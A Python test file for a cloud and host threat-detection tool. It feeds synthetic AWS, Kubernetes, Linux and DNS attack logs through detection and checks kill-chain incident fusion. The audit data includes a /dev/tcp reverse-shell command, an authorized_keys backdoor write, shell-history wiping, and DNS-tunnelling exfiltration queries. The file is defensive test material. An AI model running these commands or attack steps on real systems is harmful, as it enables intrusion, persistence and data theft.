"""One short attack story per alert family, in the logs' real formats, through the whole
detection run: the expected alerts are raised and fused into ONE incident whose stages follow
the kill chain."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from cloudwarden.detect.attack import kill_chain_index
from cloudwarden.detect.fusion import stage_of
from cloudwarden.service.detect import DetectOutcome, run_detection

from .logs import (
    auditd_exec,
    auth_line,
    cloudtrail,
    k8s_audit,
    resolver_query,
    write_jsonl,
    write_lines,
)


def detect(tmp_path: Path, *files: Path, **options: Any) -> DetectOutcome:
    outcome = run_detection(files, state_dir=tmp_path / "state", **options)
    assert outcome.stats.malformed == 0, outcome.stats.summary()
    return outcome


def the_incident(outcome: DetectOutcome, expected: set[str]) -> Any:
    raised = {a.type for a in outcome.alerts}
    assert expected <= raised, f"missing {sorted(expected - raised)}"
    holding = [i for i in outcome.incidents if expected & {a.type for a in i.alerts}]
    assert len(holding) == 1, [sorted({a.type for a in i.alerts}) for i in holding]
    incident = holding[0]
    assert expected <= {a.type for a in incident.alerts}
    order = [kill_chain_index(stage) for stage in incident.stages]
    assert order == sorted(order), incident.stages
    alert_order = [kill_chain_index(stage_of(a)) for a in incident.alerts]
    assert alert_order == sorted(alert_order)  # the story reads along the kill chain
    return incident


def test_resource_manager_story_compromised_console_user(tmp_path: Path) -> None:
    """A password-only console sign-in, a backdoor user with a key and admin rights, then the
    trail and GuardDuty turned off."""
    who = {"user": "mallory", "ip": "198.51.100.66"}
    records = [
        cloudtrail(0, "signin", "ConsoleLogin", **who,
                   responseElements={"ConsoleLogin": "Success"},
                   additionalEventData={"MFAUsed": "No", "LoginTo": "https://console.aws"}),
        cloudtrail(60, "iam", "CreateUser", **who, params={"userName": "svc-backup2"}),
        cloudtrail(90, "iam", "CreateAccessKey", **who, params={"userName": "svc-backup2"}),
        cloudtrail(120, "iam", "AttachUserPolicy", **who, params={
            "userName": "svc-backup2",
            "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
        cloudtrail(300, "cloudtrail", "StopLogging", **who, params={
            "name": "arn:aws:cloudtrail:us-east-1:111122223333:trail/org-trail"}),
        cloudtrail(320, "guardduty", "DeleteDetector", **who,
                   params={"detectorId": "12abc34d567e8fa901bc2d34e56789f0"}),
    ]
    outcome = detect(tmp_path, write_jsonl(tmp_path / "trail.jsonl", records))
    incident = the_incident(outcome, {
        "aws.cloudtrail.console_login_without_mfa", "aws.cloudtrail.iam_user_created",
        "aws.cloudtrail.access_key_created_for_other_user",
        "aws.cloudtrail.admin_policy_attached", "aws.cloudtrail.logging_disabled",
        "aws.cloudtrail.guardduty_disabled"})
    assert incident.stages[:4] == ("initial-access", "persistence", "privilege-escalation",
                                   "defense-evasion")
    assert incident.alerts[0].type == "aws.cloudtrail.console_login_without_mfa"
    assert any(e.value == "mallory" or e.value.endswith("user/mallory")
               for e in incident.entities)


def test_storage_and_secrets_story_stolen_ci_key(tmp_path: Path) -> None:
    """A leaked CI key lists and reads secrets, opens a bucket to the world, deletes buckets
    and schedules the deletion of the KMS key that protected them."""
    who = {"user": "ci-deployer", "ip": "203.0.113.77"}
    records = [cloudtrail(0, "secretsmanager", "ListSecrets", **who, params={})]
    records += [cloudtrail(10 + i, "secretsmanager", "GetSecretValue", **who,
                           params={"secretId": f"prod/db-{i}"}) for i in range(4)]
    records.append(cloudtrail(120, "s3", "DeleteBucketPublicAccessBlock", **who,
                              params={"bucketName": "acme-customer-exports"}))
    records += [cloudtrail(200 + 5 * i, "s3", "DeleteBucket", **who,
                           params={"bucketName": f"acme-backups-{i}"}) for i in range(7)]
    records.append(cloudtrail(300, "kms", "ScheduleKeyDeletion", **who, params={
        "keyId": "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab",
        "pendingWindowInDays": 7}))
    outcome = detect(tmp_path, write_jsonl(tmp_path / "trail.jsonl", records))
    incident = the_incident(outcome, {
        "aws.secretsmanager.list_then_get", "aws.cloudtrail.s3_public_access_block_removed",
        "aws.cloudtrail.mass_bucket_deletion", "aws.cloudtrail.kms_key_deletion_scheduled"})
    assert {"credential-access", "collection", "impact"} <= set(incident.stages)


def test_kubernetes_story_privileged_pod_to_cluster_admin(tmp_path: Path) -> None:
    """A developer's stolen kubeconfig: a privileged pod mounting the node's root, a shell in
    it, a cluster-admin binding, then every secret of the cluster listed."""
    who = {"user": "dev-intern@example.com", "ip": "10.20.30.40"}
    pod = {"apiVersion": "v1", "kind": "Pod",
           "metadata": {"name": "debug-tools", "namespace": "default"},
           "spec": {"hostPID": True,
                    "containers": [{"name": "sh", "image": "alpine:3.20",
                                    "securityContext": {"privileged": True},
                                    "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
                    "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}}
    binding = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
               "metadata": {"name": "debug-admin"},
               "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                           "name": "cluster-admin"},
               "subjects": [{"kind": "User", "name": "dev-intern@example.com"}]}
    records = [
        k8s_audit(0, "create", "pods", **who, namespace="default", name="debug-tools",
                  body=pod, code=201, uri="/api/v1/namespaces/default/pods"),
        k8s_audit(30, "create", "pods", **who, namespace="default", name="debug-tools",
                  subresource="exec", code=101,
                  uri="/api/v1/namespaces/default/pods/debug-tools/exec?command=sh"),
        k8s_audit(90, "create", "clusterrolebindings", **who, name="debug-admin",
                  body=binding, code=201,
                  uri="/apis/rbac.authorization.k8s.io/v1/clusterrolebindings"),
        k8s_audit(120, "list", "secrets", **who, uri="/api/v1/secrets"),
    ]
    outcome = detect(tmp_path, write_jsonl(tmp_path / "audit.jsonl", records))
    incident = the_incident(outcome, {
        "kubernetes.audit.privileged_pod", "kubernetes.audit.host_path_mount",
        "kubernetes.audit.pod_exec", "kubernetes.audit.cluster_admin_binding",
        "kubernetes.audit.secrets_listed_all_namespaces"})
    assert {"execution", "privilege-escalation", "credential-access"} <= set(incident.stages)


def test_linux_story_ssh_brute_force_to_reverse_shell(tmp_path: Path) -> None:
    """Password guessing against root succeeds; the attacker adds an authorized key and a
    cron job, opens a reverse shell and wipes the shell history."""
    host, ip = "web-1", "198.51.100.23"
    lines = [auth_line(i * 3, host, f"sshd[{900 + i}]: Failed password for root from {ip} "
                       f"port {50100 + i} ssh2") for i in range(12)]
    lines.append(auth_line(45, host, f"sshd[950]: Accepted password for root from {ip} "
                           "port 50200 ssh2"))
    audit: list[str] = []
    commands = [
        (60, "/usr/bin/bash", ["bash", "-c", "echo ssh-ed25519 AAAAC3Nza attacker >> "
                               "/root/.ssh/authorized_keys"]),
        (75, "/usr/bin/crontab", ["crontab", "/tmp/.x"]),
        (90, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"]),
        (120, "/usr/bin/bash", ["bash", "-c", "history -c && unset HISTFILE"]),
    ]
    for serial, (seconds, exe, argv) in enumerate(commands, start=4000):
        audit += auditd_exec(seconds, serial, host, exe, argv)
    outcome = detect(tmp_path, write_lines(tmp_path / "auth.log", lines),
                     write_lines(tmp_path / "audit.log", audit))
    incident = the_incident(outcome, {
        "linux.auth.ssh_brute_force", "linux.auth.ssh_login_after_failures",
        "linux.auth.root_ssh_login", "linux.process.authorized_keys_write",
        "linux.process.crontab_modified", "linux.process.reverse_shell_dev_tcp",
        "linux.process.history_tampering"})
    assert {"initial-access", "execution", "persistence", "defense-evasion",
            "credential-access"} <= set(incident.stages)


def test_dns_story_malware_beacons_and_tunnels(tmp_path: Path) -> None:
    """An infected instance resolves algorithmically generated domains, then tunnels data out
    in long, random labels under one domain; a known-bad domain from the user's list too."""
    src = "10.0.5.12"
    records = [resolver_query(i, name, src=src, rcode="NXDOMAIN") for i, name in enumerate([
        "xjw9q2kz7vbn4tplm.com.", "qzv8r1hb6mctl0pwx.net.", "kd7wq0zmxv2n9rbtl.org."])]
    chunk = "mzxw6ytboi2dsnbvgq3tqojqgezdgnbvgy3tqojq"  # base32 of stolen data
    records += [resolver_query(10 + i, f"{chunk[i:]}{chunk[:i]}{i:04d}.x.exfil-cdn.net.",
                               src=src, qtype="TXT") for i in range(120)]
    records.append(resolver_query(200, "update.known-bad.example.", src=src))
    bad = tmp_path / "bad.txt"
    bad.write_text("known-bad.example\n")
    logs = write_jsonl(tmp_path / "resolver.jsonl", records)
    outcome = detect(tmp_path, logs, bad_domains=["known-bad.example"])
    incident = the_incident(outcome, {"dns.dga_domain", "dns.tunnelling_query",
                                      "dns.tunnelling_volume", "dns.known_bad_domain"})
    assert {"command-and-control", "exfiltration"} <= set(incident.stages)
    assert json.dumps([e.value for e in incident.entities]).count(src) >= 1
